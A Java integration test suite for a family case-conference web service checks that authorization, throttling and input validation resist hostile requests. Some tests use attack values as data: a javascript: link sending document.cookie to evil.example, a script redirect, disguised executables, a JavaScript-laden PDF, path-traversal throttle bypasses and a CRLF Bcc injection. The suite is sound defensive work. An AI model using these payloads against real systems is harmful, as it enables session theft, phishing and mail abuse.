package org.roundtable.conference.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.roundtable.conference.it.JsonBodies.json;

import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.time.Instant;
import java.time.LocalDate;
import java.time.temporal.ChronoUnit;
import java.util.Base64;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.roundtable.conference.application.OneTimeCodes;
import org.roundtable.conference.it.ApiClient.Reply;

/**
 * The outside hostile pass over what was added last: involvements, scheduling, invitation links
 * and their answers, and the sign-in code request. Each test is named for the harm it prevents.
 */
@ExtendWith(TestEnvironment.class)
@ExtendWith(ArquillianExtension.class)
class HostilePassIT {

    private static final String JESS = "jess.taylor@example.org";
    private static DemoFixture fx;

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.roundtable();
    }

    @BeforeAll
    static void fixture() {
        fx = new DemoFixture();
    }

    // Involvements: one agency's staff must not decide who else works with the family.

    @Test
    void staff_of_one_agency_cannot_end_or_take_over_another_agencys_involvement() {
        var worker = People.staff("social.worker");
        String family = worker.post("/families", json("name", fx.unique("Referral"))).json().getString("id");
        var socialCare = worker.get("/families/" + family).json().getJsonArray("involvements").getJsonObject(0);
        String teacherId = People.staff("teacher").get("/auth/me").json().getString("id");
        Reply referred = worker.post("/families/" + family + "/involvements", json("agencyId", fx.school,
                "leadPractitionerId", teacherId, "startsOn", LocalDate.now().minusDays(1).toString()));
        assertEquals(201, referred.status(), referred::toString);

        var teacher = People.staff("teacher");
        Reply ended = teacher.put("/families/" + family + "/involvements/" + socialCare.getString("id"), json(
                "leadPractitionerId", socialCare.getString("leadPractitionerId"), "startsOn", LocalDate.now().minusDays(2).toString(),
                "endsOn", LocalDate.now().minusDays(1).toString()));
        assertEquals(403, ended.status(), ended::toString);
        assertEquals(200, worker.get("/families/" + family).status(), "children's social care still works with the family");

        String schoolInvolvement = DemoFixture.idWhere(worker.get("/families/" + family).json(), "involvements", "agencyName",
                "Oakfield Primary School");
        Reply ownChanged = teacher.put("/families/" + family + "/involvements/" + schoolInvolvement, json(
                "leadPractitionerId", teacherId, "startsOn", LocalDate.now().minusDays(2).toString()));
        assertEquals(200, ownChanged.status(), "an agency still changes its own involvement: " + ownChanged);
    }

    // Administration: an administrator sees no case detail, so must not quietly become a practitioner.

    @Test
    void a_staff_members_old_address_is_told_when_an_administrator_changes_it_so_no_account_is_taken_quietly() {
        String staffId = fx.freshStaff();
        var staff = fx.admin.get("/staff/" + staffId).json();
        String old = staff.getString("email");
        String taken = fx.unique("admins.own").toLowerCase() + "@example.org";
        Reply changed = fx.admin.put("/staff/" + staffId, json("fullName", staff.getString("fullName"), "email", taken,
                "roles", staff.getJsonArray("roles"), "active", true));
        assertEquals(200, changed.status(), changed::toString);
        Mailbox.awaitCount(old, "sign-in email", 1);
        assertTrue(Mailbox.body(Mailbox.latest(old, "sign-in email")).contains(taken), "the person is told where their sign-in now goes");
    }

    @Test
    void fields_a_request_may_not_set_are_ignored_rather_than_obeyed() {
        String staffId = fx.freshStaff();
        var staff = fx.admin.get("/staff/" + staffId).json();
        Reply moved = fx.admin.put("/staff/" + staffId, json("fullName", staff.getString("fullName"), "email", staff.getString("email"),
                "roles", staff.getJsonArray("roles"), "active", true, "agencyId", fx.socialCare, "username", "chair"));
        assertEquals(200, moved.status(), moved::toString);
        assertEquals(fx.housing, moved.json().getString("agencyId"), "a member of staff is not moved into another agency by a stray field");
        assertEquals(staff.getString("username"), moved.json().getString("username"));

        String otherChair = DemoFixture.idWhere(fx.admin.get("/agencies/" + fx.socialCare + "/staff").json(), "items", "username", "social.worker");
        Reply created = fx.chair.post("/conferences", json("familyId", fx.taylors, "kind", "CORE_GROUP", "scheduledStart", inTwoWeeks(),
                "status", "CLOSED", "chairId", otherChair));
        assertEquals(201, created.status(), created::toString);
        assertEquals("SCHEDULED", created.json().getString("status"));
        assertEquals(fx.chair.get("/auth/me").json().getString("id"), created.json().getString("chairId"));
    }

    @Test
    void a_practitioner_cannot_become_the_familys_lead_worker_by_backdating_their_agencys_involvement() {
        var visitor = People.staff("health.visitor");
        String family = visitor.post("/families", json("name", fx.unique("Backdated"))).json().getString("id");
        String teacherId = People.staff("teacher").get("/auth/me").json().getString("id");
        Reply referred = visitor.post("/families/" + family + "/involvements", json("agencyId", fx.school,
                "leadPractitionerId", teacherId, "startsOn", LocalDate.now().toString()));
        assertEquals(201, referred.status(), referred::toString);
        var teacher = People.staff("teacher");
        String school = DemoFixture.idWhere(teacher.get("/families/" + family).json(), "involvements", "agencyName", "Oakfield Primary School");
        Reply backdated = teacher.put("/families/" + family + "/involvements/" + school, json("leadPractitionerId", teacherId,
                "startsOn", "2000-01-01"));
        assertEquals(200, backdated.status(), "an agency may correct its own dates: " + backdated);
        Reply member = teacher.post("/families/" + family + "/members", json("fullName", "Made Up Relative",
                "email", fx.unique("made.up").toLowerCase() + "@example.org"));
        assertEquals(403, member.status(), "the dates typed into an involvement do not make its lead the family's lead worker: " + member);
    }

    // Meeting links: only web addresses reach the family's page and calendar.

    @Test
    void a_meeting_link_that_is_not_a_web_address_is_refused_and_nothing_is_saved() {
        long before = Database.count("select count(*) from conference where family_id = ?", UUID.fromString(fx.taylors));
        Reply scripted = fx.chair.post("/conferences", json("familyId", fx.taylors, "kind", "CORE_GROUP",
                "scheduledStart", inTwoWeeks(), "joinLink", "javascript:fetch('//evil.example/'+document.cookie)"));
        assertEquals(400, scripted.status(), scripted::toString);
        assertEquals("joinLink", scripted.json().getJsonArray("errors").getJsonObject(0).getString("field"));
        assertEquals(before, Database.count("select count(*) from conference where family_id = ?", UUID.fromString(fx.taylors)));

        String id = fx.freshConference();
        Reply data = fx.chair.put("/conferences/" + id + "/arrangements", json("kind", "CORE_GROUP", "scheduledStart", inTwoWeeks(),
                "joinLink", "data:text/html,<h1>Sign in again</h1>"));
        assertEquals(400, data.status(), data::toString);
        assertEquals("joinLink", data.json().getJsonArray("errors").getJsonObject(0).getString("field"));
        Reply web = fx.chair.put("/conferences/" + id + "/arrangements", json("kind", "CORE_GROUP", "scheduledStart", inTwoWeeks(),
                "joinLink", "https://meet.example/abc"));
        assertEquals(200, web.status(), web::toString);
    }

    // Answers through the invitation link: whoever holds a link must not hurt the chair or the server.

    @Test
    void a_person_taken_off_the_list_after_their_invitation_went_out_can_no_longer_use_its_link() {
        String token = invitedJess();
        String conference = conferenceOf(token);
        String jessInvitee = DemoFixture.idWhere(fx.chair.get("/conferences/" + conference).json(), "invitees", "name", "Jess Taylor");
        Reply removed = fx.chair.delete("/conferences/" + conference + "/invitees/" + jessInvitee);
        assertEquals(200, removed.status(), removed::toString);
        assertEquals("NOT_VALID", new ApiClient().post("/invitations/page", json("token", token)).json().getString("state"),
                "the link no longer shows when and where the meeting is");
        assertEquals(400, reply(token, json("answer", "COMING")).status());
        assertEquals(401, new ApiClient().post("/auth/invitations/redeem", json("token", token)).status());
    }

    @Test
    void taking_someone_whose_views_are_in_the_record_off_the_list_is_refused_clearly() {
        String token = invitedJess();
        String conference = conferenceOf(token);
        assertEquals(204, reply(token, json("answer", "VIEWS", "words", "Please listen to Ryan.")).status());
        String jessInvitee = DemoFixture.idWhere(fx.chair.get("/conferences/" + conference).json(), "invitees", "name", "Jess Taylor");
        Reply removed = fx.chair.delete("/conferences/" + conference + "/invitees/" + jessInvitee);
        assertEquals(409, removed.status(), removed::toString);
        assertTrue(removed.detail().contains("views"), removed.detail());
    }

    @Test
    void a_meeting_is_never_cancelled_or_moved_without_telling_the_people_invited() {
        String token = invitedJess();
        String conference = conferenceOf(token);
        var view = fx.chair.get("/conferences/" + conference).json();
        Reply cancelled = fx.chair.put("/conferences/" + conference, json("kind", "CORE_GROUP",
                "scheduledStart", view.getString("scheduledStart"), "status", "CANCELLED"));
        assertEquals(400, cancelled.status(), "cancelling goes through 'cancel', with a reason everyone is told: " + cancelled);
        Reply moved = fx.chair.put("/conferences/" + conference, json("kind", "CORE_GROUP",
                "scheduledStart", Instant.parse(view.getString("scheduledStart")).plus(1, ChronoUnit.DAYS).toString(), "status", "SCHEDULED"));
        assertEquals(409, moved.status(), "moving goes through 'change the arrangements', which tells everyone: " + moved);
        var after = fx.chair.get("/conferences/" + conference).json();
        assertEquals("SCHEDULED", after.getString("status"));
        assertEquals(view.getString("scheduledStart"), after.getString("scheduledStart"));
    }

    @Test
    void an_invitation_sent_to_an_address_its_person_has_since_left_no_longer_shows_or_answers_for_the_meeting() {
        String email = fx.unique("Mover").toLowerCase() + "@example.org";
        Reply added = People.staff("social.worker").post("/families/" + fx.taylors + "/members", json("fullName", "Mover Taylor", "email", email));
        assertEquals(201, added.status(), added::toString);
        String memberId = Database.text("select id from family_member where lower(email) = ?", email);
        People.confirmAddress(email);
        Reply created = fx.chair.post("/conferences", json("familyId", fx.taylors, "kind", "CORE_GROUP", "scheduledStart", inTwoWeeks(),
                "invitees", Json.createArrayBuilder().add(json("role", "FAMILY_MEMBER", "familyMemberId", memberId)).build()));
        assertEquals(201, created.status(), created::toString);
        assertEquals(200, fx.chair.post("/conferences/" + created.json().getString("id") + "/invitations", null).status());
        String oldLink = Mailbox.latestInvitationToken(email);
        assertEquals("VALID", new ApiClient().post("/invitations/page", json("token", oldLink)).json().getString("state"));

        // She moves to a new address (say an ex-partner can read the old mailbox) and confirms it.
        var member = signInWithCode(email);
        String moved = "moved-" + email;
        assertEquals(200, member.put("/families/" + fx.taylors + "/members/" + memberId, json("fullName", "Mover Taylor", "email", moved)).status());
        People.confirmAddress(moved);

        assertEquals("NOT_VALID", new ApiClient().post("/invitations/page", json("token", oldLink)).json().getString("state"),
                "the old mailbox no longer learns when and where the meeting is");
        Reply answered = reply(oldLink, json("answer", "CANT_COME", "reason", "Written by whoever reads the old mailbox"));
        assertEquals(400, answered.status(), answered::toString);
    }

    @Test
    void someone_whose_agency_stopped_working_with_the_family_is_not_sent_its_meetings_details() {
        var worker = People.staff("social.worker");
        String name = fx.unique("Former");
        String family = worker.post("/families", json("name", name)).json().getString("id");
        String start = LocalDate.now().minusDays(3).toString();
        Reply referred = worker.post("/families/" + family + "/involvements", json("agencyId", fx.health,
                "leadPractitionerId", fx.healthVisitor, "startsOn", start));
        assertEquals(201, referred.status(), referred::toString);
        Reply created = fx.chair.post("/conferences", json("familyId", family, "kind", "CORE_GROUP", "scheduledStart", inTwoWeeks(),
                "invitees", Json.createArrayBuilder().add(json("role", "AGENCY_STAFF", "staffMemberId", fx.healthVisitor)).build()));
        assertEquals(201, created.status(), created::toString);
        String conference = created.json().getString("id");
        assertEquals(200, fx.chair.post("/conferences/" + conference + "/invitations", null).status());
        String visitorEmail = fx.admin.get("/staff/" + fx.healthVisitor).json().getString("email");

        String health = referred.json().getString("id");
        Reply ended = worker.put("/families/" + family + "/involvements/" + health, json("leadPractitionerId", fx.healthVisitor,
                "startsOn", start, "endsOn", LocalDate.now().minusDays(1).toString()));
        assertEquals(200, ended.status(), ended::toString);
        Reply moved = fx.chair.put("/conferences/" + conference + "/arrangements", json("kind", "CORE_GROUP",
                "scheduledStart", Instant.now().plus(15, ChronoUnit.DAYS).truncatedTo(ChronoUnit.HOURS).toString(), "venue", "A new place"));
        assertEquals(200, moved.status(), moved::toString);
        assertEquals(0, Mailbox.count(visitorEmail, "Changed: meeting about the " + name), "the family's new meeting place goes only to those still working with it");
    }

    @Test
    void views_sent_through_an_invitation_cannot_hand_the_chair_a_program_or_a_web_page() {
        String token = invitedJess();
        for (String[] file : new String[][] {{"views.html", "<html><script>location='https://evil.example'</script></html>"},
                {"views.pdf.exe", "MZ\u0090\u0000 this program cannot be run in DOS mode"},
                {"views.txt", "MZ\u0090\u0000 this program cannot be run in DOS mode"},
                {"views.pdf", "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj"}}) {
            Reply refused = reply(token, views(file[0], file[1].getBytes(StandardCharsets.ISO_8859_1)));
            assertEquals(400, refused.status(), file[0] + ": " + refused);
            assertEquals("file", refused.json().getJsonArray("errors").getJsonObject(0).getString("field"), refused::toString);
        }
        Reply text = reply(token, views("my views.txt", "I would like the meeting after school.".getBytes(StandardCharsets.UTF_8)));
        assertEquals(204, text.status(), text::toString);
        Reply pdf = reply(token, views("my views.pdf", DemoFixture.samplePdf()));
        assertEquals(204, pdf.status(), pdf::toString);
    }

    @Test
    void one_invitation_link_cannot_fill_the_database_or_the_chairs_inbox_with_views() {
        String token = invitedJess();
        String invitee = Database.text("select i.id from conference_invitee i join invitation v on v.invitee_id = i.id "
                + "where v.token_hash = encode(sha256(convert_to(?, 'UTF8')), 'hex')", token);
        int accepted = 0;
        for (int n = 0; n < 15; n++) {
            if (reply(token, json("answer", "VIEWS", "words", "View number " + n)).status() == 204) {
                accepted++;
            }
        }
        long stored = Database.count("select count(*) from views_before_meeting where invitee_id = ?", UUID.fromString(invitee));
        assertEquals(10, accepted, "ten sets of views are plenty for one meeting");
        assertEquals(10, stored);
    }

    @Test
    void the_invitation_links_pages_are_throttled_per_source_like_every_other_way_in() {
        var guesser = ApiClient.from("198.51.100.211");
        boolean throttled = false;
        for (int n = 0; n < 260 && !throttled; n++) {
            throttled = guesser.post("/invitations/page", json("token", "guess-" + n)).status() == 429;
        }
        assertTrue(throttled, "guessing invitation links from one address is slowed down");
    }

    @Test
    void a_path_that_only_begins_like_signing_out_does_not_escape_the_sign_in_throttle() throws Exception {
        var source = "198.51.100.212";
        var client = ApiClient.from(source);
        boolean throttled = false;
        // The suite's allowance is 200 at once plus 10 a second: on a slow machine 260 tries in a row
        // took long enough for the refill to keep up, so the flood goes on until it is turned away.
        for (int n = 0; n < 2000 && !throttled; n++) {
            throttled = client.post("/auth/codes", json("email", "nobody-" + n + "@example.org")).status() == 429;
        }
        assertTrue(throttled, "a flood of code requests from one address is turned away");
        for (String path : new String[] {"/api/auth/sign-out/../codes", "/api/auth/sign-out/..;/codes", "/api/auth/sign-out-everywhere/../codes",
                "/api/auth/sign-out;/../codes"}) {
            var request = HttpRequest.newBuilder(URI.create(ApiClient.BASE + path)).header("Content-Type", "application/json")
                    .header("Origin", ApiClient.BASE.toString()).header("X-Forwarded-For", source)
                    .POST(HttpRequest.BodyPublishers.ofString(json("email", "nobody-else@example.org").toString())).build();
            int status = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.discarding()).statusCode();
            assertTrue(status == 429 || status == 404 || status == 400, path + " answered " + status);
        }
    }

    // Finding 9: asking for a code must not do more work for an address that signs someone in.

    @Test
    void asking_for_a_code_writes_nothing_of_the_persons_own_so_a_known_address_looks_like_any_other() throws Exception {
        int before = Mailbox.count(JESS, "sign-in code");
        try (Connection lock = Database.connect()) {
            lock.setAutoCommit(false);
            // Reads stay possible; any write to a person's codes, guards or mail waits for this transaction.
            lock.createStatement().execute("lock table one_time_code, sign_in_guard, outbox_mail in exclusive mode");
            var known = CompletableFuture.supplyAsync(() -> ApiClient.from("198.51.100.213").post("/auth/codes", json("email", JESS)));
            var unknown = CompletableFuture.supplyAsync(() -> ApiClient.from("198.51.100.214").post("/auth/codes",
                    json("email", "nobody-at-all@example.org")));
            Reply knownReply = known.get(10, TimeUnit.SECONDS);
            Reply unknownReply = unknown.get(10, TimeUnit.SECONDS);
            assertEquals(200, knownReply.status(), knownReply::toString);
            assertEquals(unknownReply.status(), knownReply.status());
            assertEquals(unknownReply.json().keySet(), knownReply.json().keySet());
            lock.rollback();
        }
        Mailbox.awaitCount(JESS, "sign-in code", before + 1);
    }

    // Session 12's inputs: the person's language, the code's language, contacts, downloads of everything held.

    @Test
    void a_family_member_cannot_set_another_persons_language_nor_store_anything_but_english_or_welsh() {
        ApiClient anna = People.signedIn(Role.OTHER_FAMILY_MEMBER);
        String annas = "select language from family_member where email = 'anna.novak@example.org'";
        String jesss = "select language from family_member where id = ?";
        assertEquals("en", Database.text(annas));
        String before = Database.text(jesss, UUID.fromString(fx.jess));
        try {
            // Ids of someone else in the body are not obeyed: the language is the caller's own.
            Reply own = anna.put("/auth/me/language", json("language", "cy", "id", fx.jess, "personId", fx.jess, "familyMemberId", fx.jess));
            assertEquals(200, own.status(), own::toString);
            assertEquals("cy", Database.text(annas));
            assertEquals(before, Database.text(jesss, UUID.fromString(fx.jess)), "Jess's language is Jess's own");
            for (String bad : new String[] {"EN", " en", "en ", "en-GB", "fr", "", "e\u0000n", "x".repeat(70_000)}) {
                Reply refused = anna.put("/auth/me/language", json("language", bad));
                assertTrue(refused.status() == 400 || refused.status() == 413, bad.length() + " characters: " + refused);
                assertTrue(refused.contentType().startsWith("application/problem+json"), refused::toString);
                assertEquals("cy", Database.text(annas), "nothing changed by " + bad.substring(0, Math.min(bad.length(), 10)));
            }
            Reply number = anna.send("PUT", "/auth/me/language", "{\"language\": 1}");
            assertEquals(400, number.status(), number::toString);
            // A page elsewhere cannot switch her language with her cookies: the CSRF token is needed, as for every change.
            assertEquals(403, anna.send("PUT", "/auth/me/language", json("language", "en").toString(), false).status());
            assertEquals("cy", Database.text(annas));
        } finally {
            Database.update("update family_member set language = 'en' where email = 'anna.novak@example.org'");
        }
    }

    @Test
    void an_outsider_asking_for_someones_code_in_welsh_does_not_change_the_language_they_are_written_to_in() {
        String before = Database.text("select language from family_member where id = ?", UUID.fromString(fx.jess));
        Reply asked = ApiClient.from("198.51.100.221").post("/auth/codes", json("email", JESS, "language", before.equals("en") ? "cy" : "en"));
        assertEquals(200, asked.status(), asked::toString);
        assertEquals(before, Database.text("select language from family_member where id = ?", UUID.fromString(fx.jess)));

        Mailbox.awaitDelivery();
        int codes = codeEmails(JESS);
        for (String bad : new String[] {"CY", "cy-GB", "fr", "cy\r\nBcc: everyone@example.org", "x".repeat(5000)}) {
            Reply refused = ApiClient.from("198.51.100.222").post("/auth/codes", json("email", JESS, "language", bad));
            assertEquals(400, refused.status(), refused::toString);
            assertTrue(refused.contentType().startsWith("application/problem+json"), refused::toString);
        }
        assertEquals(0, Database.count("select count(*) from code_request"), "a refused request writes nothing");
        Mailbox.awaitDelivery();
        assertEquals(codes, codeEmails(JESS), "and sends nothing");
    }

    @Test
    void asking_for_codes_in_turn_in_english_and_in_welsh_gets_no_more_codes_than_the_persons_allowance() {
        String name = fx.unique("Cerys Taylor");
        String email = name.toLowerCase().replace(' ', '.') + "@example.org";
        Reply added = fx.chair.post("/families/" + fx.taylors + "/members", json("fullName", name, "email", email));
        assertEquals(201, added.status(), added::toString);
        People.confirmAddress(email);
        for (int i = 0; i < OneTimeCodes.REQUESTS_PER_WINDOW + 4; i++) {
            Reply asked = ApiClient.from("198.51.100." + (100 + i)).post("/auth/codes", json("email", email, "language", i % 2 == 0 ? "en" : "cy"));
            assertEquals(200, asked.status(), asked::toString);
        }
        Mailbox.awaitDelivery();
        assertEquals(OneTimeCodes.REQUESTS_PER_WINDOW, codeEmails(email), "codes sent, English and Welsh together");
    }

    private static int codeEmails(String to) {
        return Mailbox.count(to, "sign-in code") + Mailbox.count(to, "cod mewngofnodi");
    }

    @Test
    void a_contact_dated_centuries_ago_is_refused_clearly_rather_than_kept_out_of_sight_of_the_contact_map() {
        ApiClient worker = People.staff("social.worker");
        String contacts = "/families/" + fx.taylors + "/contacts";
        long stored = Database.count("select count(*) from contact where family_id = ?", UUID.fromString(fx.taylors));
        // "0024" is what the page sends when a worker types a two-digit year with leading zeros; the others no record can hold.
        for (String day : new String[] {"0024-03-01", "1066-10-14", "0000-01-01", "-999999999-01-01", "+999999999-12-31"}) {
            Reply refused = worker.post(contacts, json("happenedOn", day, "kind", "CALL", "summary", "Checked in by phone."));
            assertEquals(400, refused.status(), day + ": " + refused);
            assertTrue(refused.contentType().startsWith("application/problem+json"), refused::toString);
            assertEquals("happenedOn", refused.json().getJsonArray("errors").getJsonObject(0).getString("field"), refused::toString);
            Reply corrected = worker.put(contacts + "/" + fx.socialWorkerContact, json("happenedOn", day, "kind", "CALL", "summary", "Moved."));
            assertEquals(400, corrected.status(), day + ": " + corrected);
        }
        assertEquals(stored, Database.count("select count(*) from contact where family_id = ?", UUID.fromString(fx.taylors)), "nothing stored");
        assertEquals(0, Database.count("select count(*) from contact where extract(year from happened_on) < 1900"), "nothing moved");
    }

    @Test
    void asking_only_for_the_head_of_everything_held_does_not_use_up_the_familys_downloads() {
        ApiClient jess = People.signedIn(Role.FAMILY_MEMBER);
        String zip = "/api/families/" + fx.taylors + "/my-data/zip";
        for (int i = 0; i < 3; i++) {
            var head = jess.raw("HEAD", zip);
            assertTrue(head.statusCode() == 200 || head.statusCode() == 429, "HEAD " + head.statusCode());
        }
        long until = System.nanoTime() + TimeUnit.SECONDS.toNanos(5);
        int status;
        do {
            status = jess.download("/families/" + fx.taylors + "/my-data/zip").status();
        } while (status != 200 && System.nanoTime() < until);
        assertEquals(200, status, "three HEAD requests left the family unable to download");
    }

    private static String inTwoWeeks() {
        return Instant.now().plus(14, ChronoUnit.DAYS).truncatedTo(ChronoUnit.HOURS).toString();
    }

    /** A conference with Jess invited by email; her link's token. */
    private static String invitedJess() {
        Reply created = fx.chair.post("/conferences", json("familyId", fx.taylors, "kind", "CORE_GROUP", "scheduledStart", inTwoWeeks(),
                "invitees", Json.createArrayBuilder().add(json("role", "FAMILY_MEMBER", "familyMemberId", fx.jess)).build()));
        assertEquals(201, created.status(), created::toString);
        Reply sent = fx.chair.post("/conferences/" + created.json().getString("id") + "/invitations", null);
        assertEquals(200, sent.status(), sent::toString);
        return Mailbox.latestInvitationToken(JESS);
    }

    private static ApiClient signInWithCode(String email) {
        var client = ApiClient.from("10.9." + (int) (Math.random() * 250) + "." + (1 + (int) (Math.random() * 250)));
        Reply challenge = client.post("/auth/codes", json("email", email));
        Reply verified = client.post("/auth/codes/verify", json("challengeId", challenge.json().getString("challengeId"),
                "code", Mailbox.latestCode(email)));
        assertEquals(200, verified.status(), verified::toString);
        return client;
    }

    private static String conferenceOf(String token) {
        return new ApiClient().post("/invitations/page", json("token", token)).json().getString("conferenceId");
    }

    private static JsonObject views(String fileName, byte[] content) {
        return json("answer", "VIEWS", "fileName", fileName, "fileBase64", Base64.getEncoder().encodeToString(content));
    }

    private static Reply reply(String token, JsonObject answer) {
        return ApiClient.from("198.51.100." + (1 + (int) (Math.random() * 200))).post("/invitations/reply",
                Json.createObjectBuilder().add("token", token).add("reply", answer).build());
    }
}
